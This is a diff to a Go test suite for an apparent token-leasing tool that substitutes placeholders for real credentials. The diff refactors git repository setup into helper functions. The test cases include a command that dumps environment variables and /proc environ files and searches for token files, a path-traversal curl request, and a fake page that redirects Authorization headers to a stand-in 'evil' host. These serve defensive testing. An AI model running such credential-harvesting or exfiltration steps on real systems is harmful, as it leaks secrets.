@@ -24,13 +24,8 @@ const (
 
 // leases runs real programs that need a token, with placeholders.
 func leases(t *testing.T, n *internet) {
-	repository := filepath.Join(t.TempDir(), "me", "private.git")
-	runGit(t, ".", "init", "-q", "--bare", "-b", "main", repository)
+	repository := makeRepository(t, "private.git")
 	runGit(t, repository, "config", "http.receivepack", "true")
-	first := filepath.Join(t.TempDir(), "first")
-	runGit(t, ".", "init", "-q", "-b", "main", first)
-	runGit(t, first, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "--allow-empty", "-m", "one")
-	runGit(t, first, "push", "-q", repository, "main")
 	n.host(forge, "151.101.0.6", forgePages(filepath.Dir(filepath.Dir(repository))))
 	n.host(shelf, "151.101.0.7", shelfPages())
 	p := newPerson(t, n, "")
@@ -58,7 +53,7 @@ func leases(t *testing.T, n *internet) {
 		{"curl --version", `curl -sS -H "Authorization: Bearer $SHELF_TOKEN" https://` + forge + "/me/echo", 22, []string{"Refused: SHELF_TOKEN@" + forge + ":443"}},
 		{"curl --version", `curl -sS --path-as-is -H "Authorization: Bearer $FORGE_TOKEN" https://` + forge + "/me/../user", 22, []string{"Refused: FORGE_TOKEN@"}},
 		{"curl --version", `curl -sS -H "Authorization: Bearer $FORGE_TOKEN" http://` + forge + "/me/echo", 22, []string{"Refused: "}},
-		{"curl --version", "env; cat /proc/*/environ; find ~/.umpire /root -name '*TOKEN*'; true", 0, []string{"FORGE_TOKEN=umpire_"}},
+		{"curl --version", "env; cat /proc/*/environ; find ~/.umpire /root -maxdepth 3 -name '*TOKEN*'; true", 0, []string{"FORGE_TOKEN=umpire_"}},
 	} {
 		t.Run(tt.line, func(t *testing.T) {
 			if exec.CommandContext(t.Context(), "sh", "-c", tt.needs).Run() != nil {
@@ -122,13 +117,30 @@ func (p *person) lease(t *testing.T, value string, args ...string) {
 	}
 }
 
-// forgePages serves repositories, and pages that repeat or send away what they get, to those with the token.
-func forgePages(root string) http.HandlerFunc {
+// makeRepository returns the folder of a repository me/NAME with one commit.
+func makeRepository(t *testing.T, name string) string {
+	t.Helper()
+	repository, first := filepath.Join(t.TempDir(), "me", name), filepath.Join(t.TempDir(), "first")
+	runGit(t, ".", "init", "-q", "--bare", "-b", "main", repository)
+	runGit(t, ".", "init", "-q", "-b", "main", first)
+	runGit(t, first, "-c", "user.name=a", "-c", "user.email=a@example.com", "commit", "-q", "--allow-empty", "-m", "one")
+	runGit(t, first, "push", "-q", repository, "main")
+	return repository
+}
+
+// gitBackend serves the repositories below a folder.
+func gitBackend(root string) http.HandlerFunc {
 	core, _ := exec.CommandContext(context.Background(), "git", "--exec-path").Output()
 	backend := &cgi.Handler{
 		Path: filepath.Join(strings.TrimSpace(string(core)), "git-http-backend"), Stderr: io.Discard,
 		Env: []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1", "REMOTE_USER=x"},
 	}
+	return backend.ServeHTTP
+}
+
+// forgePages serves repositories, and pages that repeat or send away what they get, to those with the token.
+func forgePages(root string) http.HandlerFunc {
+	backend := gitBackend(root)
 	return func(w http.ResponseWriter, r *http.Request) {
 		_, password, _ := r.BasicAuth()
 		switch {
@@ -141,7 +153,7 @@ func forgePages(root string) http.HandlerFunc {
 		case r.URL.Path == "/me/away":
 			http.Redirect(w, r, "https://"+evil+"/?"+r.Header.Get("Authorization"), http.StatusTemporaryRedirect)
 		default:
-			backend.ServeHTTP(w, r)
+			backend(w, r)
 		}
 	}
 }
